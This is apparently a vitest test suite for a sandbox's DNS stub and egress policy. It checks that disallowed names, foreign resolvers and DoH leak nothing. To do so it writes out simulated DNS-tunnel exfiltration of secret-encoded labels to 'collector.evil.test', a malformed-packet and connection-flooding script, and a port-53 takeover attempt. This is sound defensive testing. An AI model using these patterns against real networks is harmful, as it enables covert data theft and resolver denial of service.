import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { actorsWith } from "../support/run/needs.ts";
import type { Over } from "../support/network/ask.ts";
import { namesAsked } from "../support/network/internet.ts";
import { NetworkPlace, networkPolicy } from "../support/network/place.ts";
import { FOREIGN_RESOLVER } from "../support/network/zone.ts";

const STUB = "127.0.0.53";
const AT_ONCE_MS = 2000;

/** What a thief would put into names: 40 labels of a secret, below a server of the thief's. */
const SECRETS = Array.from({ length: 40 }, (_, at) => `${"5ec2e7".repeat(9)}${at}`);

/** Sends what is no question to the stub, over UDP and TCP, and says how many of them were answered. */
const GARBAGE = `
import os, random, socket, struct
random.seed(5)
BAD = [b"", b"\\0", bytes(11), bytes(12), bytes(18), b"\\xff" * 512, os.urandom(1400), os.urandom(65000),
  struct.pack("!6H", 1, 0x0100, 9, 9, 9, 9) + b"\\xc0\\x0c" * 9, struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0) + b"\\xc0\\x0c\\0\\1\\0\\1",
  struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0) + b"\\x3f" * 400, struct.pack("!6H", 1, 0x8180, 1, 0, 0, 0) + b"\\4evil\\4test\\0\\0\\1\\0\\1",
  struct.pack("!6H", 1, 0x2800, 1, 0, 0, 0) + b"\\4evil\\4test\\0\\0\\1\\0\\1"] + [random.randbytes(random.randrange(600)) for _ in range(200)]
for message in BAD:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(message, ("127.0.0.53", 53))
    with socket.create_connection(("127.0.0.53", 53), 2) as s:
        try: s.sendall(struct.pack("!H", len(message)) + message)
        except OSError: pass
open_too_long = [socket.create_connection(("127.0.0.53", 53), 2) for _ in range(100)]
for s in open_too_long: s.sendall(b"\\0")
`;

describe.each(actorsWith("python3", "nft"))("DNS, as $kind", (actor) => {
  let place: NetworkPlace;
  beforeAll(async () => {
    place = await NetworkPlace.open(actor, {
      default: networkPolicy(["registry.example.test", "*.wild.example.test"]),
    });
    place.broker.write(`${place.broker.project}/garbage.py`, GARBAGE);
  });
  afterAll(() => place.close());

  test("carries no byte out in names that are not allowed, of any type, and says so at once", async () => {
    const types = ["A", "AAAA", "TXT", "MX", "SRV", "HTTPS", "ANY"];
    for (const over of ["udp", "tcp"] as const) {
      const questions = SECRETS.flatMap((secret, at) => [
        `${secret}.collector.evil.test ${types[at % types.length]}`,
        `${secret}.registry.example.test ${types[at % types.length]}`,
      ]);
      const { answers, seen, ms } = await place.ask(over, STUB, questions);
      expect(answers).toEqual(questions.map(() => "3"));
      expect(seen.questions).toEqual([]);
      expect(ms).toBeLessThan(AT_ONCE_MS);
    }
  });

  test("of an allowed name leaves the machine for its addresses and nothing else", async () => {
    const types = ["A", "AAAA", "TXT", "MX", "SRV", "HTTPS", "ANY"];
    const asked = await place.ask(
      "udp",
      STUB,
      types.map((type) => `data.wild.example.test ${type}`),
    );
    expect(asked.answers[0]).toMatch(/^0 198\.1[89]\./);
    expect(asked.answers.slice(1, 6)).toEqual(["0", "0", "0", "0", "0"]);
    const dialled = await place.dial(["data.wild.example.test 80"]);
    expect(dialled.dialled[0]?.came).toBe("connected");
    expect(namesAsked(asked.seen)).toEqual(["data.wild.example.test"]);
    for (const { type } of [...asked.seen.questions, ...dialled.seen.questions])
      expect(type).toMatch(/^(A|AAAA)$/);
  });

  test("says of an allowed name that nobody has, or that has no answer, what the host says, and why", async () => {
    const look = `python3 -c "
import socket, sys
for name in ('gone.wild.example.test.', 'nobody.example.test', 'broken.example.test', 'registry.example.test'):
    try: print(socket.getaddrinfo(name, 80)[0][4][1])
    except socket.gaierror as e: print(e.errno == socket.EAI_NONAME, e.errno == socket.EAI_AGAIN)
sys.exit(1)"`;
    const policy = networkPolicy(["registry.example.test", "nobody.example.test", "broken.example.test"]);
    const other = await NetworkPlace.in(place.internet, actor, { default: policy });
    try {
      const { result } = await other.during(look);
      expect(result.stdout).toBe("True False\nTrue False\nFalse True\n80\n");
      expect(result.stderr).toContain("'nobody.example.test' cannot be resolved on the host: ENOTFOUND");
      expect(result.stderr).toContain("'broken.example.test' cannot be resolved on the host: ESERVFAIL");
      expect(result.stderr).toContain("'gone.wild.example.test' was not looked up");
    } finally {
      await other.broker.stop();
    }
  });

  test.each(["udp", "tcp", "tls", "https"] as const)(
    "over %s to any other resolver is refused at once",
    async (over: Over) => {
      const resolvers = [
        "203.0.113.53",
        FOREIGN_RESOLVER,
        "8.8.8.8",
        "10.0.0.53",
        "169.254.169.253",
        "2001:db8::53",
      ];
      for (const resolver of resolvers) {
        const { answers, seen, ms } = await place.ask(over, resolver, ["secret.collector.evil.test A"]);
        expect(answers, resolver).toEqual([expect.stringMatching(/^E[A-Z]+$/)]);
        expect(seen.questions, resolver).toEqual([]);
        expect(seen.connections, resolver).toEqual([]);
        expect(ms, resolver).toBeLessThan(AT_ONCE_MS);
      }
      const outside = await place.internet.during(() =>
        place.internet.run([
          "python3",
          `${place.broker.project}/ask.py`,
          over,
          FOREIGN_RESOLVER,
          "secret.collector.evil.test",
          "A",
        ]),
      );
      expect(outside.result.stdout).toBe("0 203.0.113.66\n");
    },
  );

  test("over HTTPS by a name needs that name to be allowed, and then it is a page like others", async () => {
    const refused = await place.ask("https", "doh.example.test", ["secret.collector.evil.test A"]);
    expect(refused.answers[0]).not.toMatch(/^\d/);
    expect(refused.seen).toMatchObject({ connections: [], questions: [] });
    const other = await NetworkPlace.in(place.internet, actor, {
      default: networkPolicy(["doh.example.test"]),
    });
    try {
      const allowed = await other.ask("https", "doh.example.test", ["registry.example.test A"]);
      expect(allowed.answers).toEqual(["0 203.0.113.10"]);
      expect(allowed.seen.connections.map(({ to }) => to.address)).toEqual(["203.0.113.54"]);
      // The address it told is still one that no name of this policy stands for.
      expect((await other.dial(["203.0.113.10 443"])).seen.connections).toEqual([]);
    } finally {
      await other.broker.stop();
    }
  });

  test("is answered by nobody else: no command listens where the world's name server does", async () => {
    const tries = [
      ...["127.0.0.53", "0.0.0.0", "127.0.0.1"].flatMap((host) => [`DGRAM ${host}`, `STREAM ${host}`]),
    ];
    place.broker.write(
      `${place.broker.project}/take.py`,
      `import socket, sys
for line in ${JSON.stringify(tries)}:
    kind, host = line.split()
    s = socket.socket(socket.AF_INET, getattr(socket, "SOCK_" + kind))
    for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT): s.setsockopt(socket.SOL_SOCKET, option, 1)
    try: s.bind((host, 53)); print("took", line)
    except OSError as e: print(e.errno)
`,
    );
    expect((await place.run("python3 take.py")).stdout).toBe("13\n".repeat(tries.length));
  });

  test("that is no DNS harms nobody: the next question is answered", async () => {
    const { result, seen } = await place.during("python3 garbage.py; echo done");
    expect(result.stdout, result.stderr).toBe("done\n");
    expect(seen.questions).toEqual([]);
    const { answers, ms } = await place.ask("udp", STUB, ["registry.example.test A", "evil.test A"]);
    expect(answers).toEqual([expect.stringMatching(/^0 198\./), "3"]);
    expect(ms).toBeLessThan(AT_ONCE_MS);
  });

  test("that fails or stays silent fails its own connection in time, and no other", async () => {
    const policy = networkPolicy(["broken.example.test", "silent.example.test", "registry.example.test"]);
    const other = await NetworkPlace.in(place.internet, actor, { default: policy });
    try {
      const dial = (name: string): string => `python3 -c "
import socket, time
began = time.monotonic()
try:
    s = socket.create_connection(('${name}', 80), 20); s.sendall(b'x'); came = s.recv(1)
except OSError as e: came = e
print(bool(came) and not isinstance(came, OSError), time.monotonic() - began < 15)"`;
      const { result } = await other.during(
        `${dial("silent.example.test")} & sleep 0.3; python3 dial.py registry.example.test 80; wait; ${dial("broken.example.test")}`,
      );
      expect(result.stdout).toMatch(/^connected \d{1,3}\nFalse True\nFalse True\n$/);
    } finally {
      await other.broker.stop();
    }
  });
});
